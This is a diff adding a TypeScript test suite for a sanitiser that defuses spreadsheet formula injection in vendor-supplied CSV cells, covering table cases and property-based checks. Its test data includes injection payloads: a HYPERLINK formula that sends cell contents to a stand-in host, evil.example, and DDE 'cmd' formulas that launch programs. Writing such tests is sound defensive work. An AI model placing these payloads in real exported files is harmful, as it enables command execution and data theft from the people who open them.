@@ -1,0 +1,179 @@
+/**
+ * Goal: nothing that a vendor says becomes a formula when the output is opened in a spreadsheet program, and what is no
+ * formula comes out as the vendor said it.
+ * Method: tables of what begins a formula and what does not, and arbitrary cells against a rule of our own making, which
+ * is written down here in another way than in the source: it strips what a program may strip and looks at what is left.
+ */
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { CellSafety, safeCell } from '../src/formulas.ts';
+
+/** Everything that some program passes over before it decides what a cell is. */
+const PASSED_OVER = /^(?:\p{White_Space}|\p{Cc}|\p{Cf})*/u;
+
+/** Whether a spreadsheet program could take the cell for a formula: Excel, LibreOffice or Sheets, in any locale. */
+function mayBeFormula(cell: string): boolean {
+  const [skipped = ''] = PASSED_OVER.exec(cell) ?? [];
+  const first = cell.slice(skipped.length)[0]?.normalize('NFKC') ?? '';
+  return /[\t\r\n]/.test(skipped) || ['=', '+', '-', '@'].includes(first);
+}
+
+/** What may begin with a sign: nothing is computed from it, and nothing is looked up. */
+function isNumberOrPhone(cell: string): boolean {
+  const bare = cell.replace(/^ *[+-]?/, '').replace(/%? *$/, '');
+  return /^[\d ,]+(?:\.\d+)?(?:[eE][+-]?\d{1,3})?$/.test(bare);
+}
+
+describe('what begins a formula gets an apostrophe in front, and is otherwise as it was', () => {
+  test.each([
+    '=1+1',
+    '=HYPERLINK("http://evil.example?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '+1+1',
+    '-2+3+cmd|x!A0',
+    '@SUM(1+1)*cmd',
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '\tAcme',
+    '  =1+1',
+    ' \n Acme',
+    '\u00a0=1+1',
+    '\ufeff=1+1',
+    '\u0000=1+1',
+    '\u200b\u2060=1+1',
+    '\u2028=1+1',
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(1)',
+    ' ＝1+1',
+    '﹦1',
+    '=',
+    '-',
+    '--5',
+    '+-5',
+    '-A1',
+    '-5-3',
+    '-5 %+A1',
+    '+61-2-9999-0000',
+    '+61 2 9999 0000\n=1',
+    '+61\u00a02 9999 0000',
+    '-5\n',
+    '@acme',
+  ])('%j', (cell) => {
+    expect(safeCell(cell)).toEqual({ text: `'${cell}`, wasFormula: true });
+  });
+});
+
+describe('what is no formula stays as it is', () => {
+  test.each([
+    '',
+    ' ',
+    'Acme & Co',
+    "'=1+1",
+    '"=1+1"',
+    '1+1',
+    'a=b',
+    'jo@acme.example',
+    '2026-11-20T00:00:00.000Z',
+    '−5',
+    '-5',
+    '+3',
+    '-0.5',
+    '-5%',
+    '-1,234,567.89',
+    '-1.5e-7',
+    '+1E+12',
+    ' -5 ',
+    '+61 2 9999 0000',
+    '+61299990000',
+    '+1 212 555 0100',
+    '+64 9 555 0100 ',
+    'Zürich',
+    '日本',
+    '🙂=1',
+  ])('%j', (cell) => {
+    expect(safeCell(cell)).toEqual({ text: cell, wasFormula: false });
+  });
+});
+
+/** Cells that are made of what formulas begin with more often than chance would make them. */
+const cells = fc.oneof(
+  fc.string({ unit: 'binary' }),
+  fc
+    .array(
+      fc.oneof(
+        fc.constantFrom(...'=+-@＝＋－＠\t\r\n \u00a0\ufeff\u0000\u200b\'"1,.%eE5A('),
+        fc.string({ unit: 'grapheme', maxLength: 3 }),
+      ),
+      { maxLength: 8 },
+    )
+    .map((parts) => parts.join('')),
+);
+
+test('no cell that was made safe begins a formula in any program, unless it is a number or a telephone number', () => {
+  fc.assert(
+    fc.property(cells, (cell) => {
+      const { text } = safeCell(cell);
+      expect(mayBeFormula(text) && !isNumberOrPhone(text)).toBe(false);
+    }),
+    { numRuns: 2_000 },
+  );
+});
+
+test('nothing is lost: a safe cell is the cell, or the cell behind one apostrophe', () => {
+  fc.assert(
+    fc.property(cells, (cell) => {
+      const { text, wasFormula } = safeCell(cell);
+      expect(text).toBe(wasFormula ? `'${cell}` : cell);
+      expect(wasFormula).toBe(wasFormula && mayBeFormula(cell));
+    }),
+    { numRuns: 2_000 },
+  );
+});
+
+test('a safe cell that is read again and written again is the same', () => {
+  fc.assert(
+    fc.property(cells, (cell) => {
+      const { text } = safeCell(cell);
+      expect(safeCell(text)).toEqual({ text, wasFormula: false });
+    }),
+    { numRuns: 2_000 },
+  );
+});
+
+test('every number and every international telephone number stays as it is', () => {
+  const number = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.maxSafeInteger());
+  const phone = fc
+    .tuple(
+      fc.integer({ min: 1, max: 999 }),
+      fc.array(fc.integer({ min: 100, max: 9999 }), { minLength: 2, maxLength: 3 }),
+    )
+    .map(([country, groups]) => `+${[country, ...groups].join(' ')}`);
+  fc.assert(
+    fc.property(fc.oneof(number.map(String), phone), (cell) => {
+      expect(safeCell(cell)).toEqual({ text: cell, wasFormula: false });
+    }),
+  );
+});
+
+test('a long cell of blanks takes no longer than it has to', () => {
+  const blanks = `${' '.repeat(1_000_000)}A`;
+  expect(safeCell(blanks).wasFormula).toBe(false);
+  expect(safeCell(`+${'1 '.repeat(500_000)}`).wasFormula).toBe(true);
+});
+
+describe('of a whole output', () => {
+  test('what was made safe is counted', () => {
+    const safety = new CellSafety('safe');
+    expect(['=1', 'Acme', '-5', '@x'].map((cell) => safety.cell(cell))).toEqual(["'=1", 'Acme', '-5', "'@x"]);
+    expect(safety.marked).toBe(2);
+  });
+
+  test('raw: all is as the vendor said it, and nothing is counted', () => {
+    const safety = new CellSafety('raw');
+    expect(['=1', '\t@x'].map((cell) => safety.cell(cell))).toEqual(['=1', '\t@x']);
+    expect(safety.marked).toBe(0);
+  });
+});
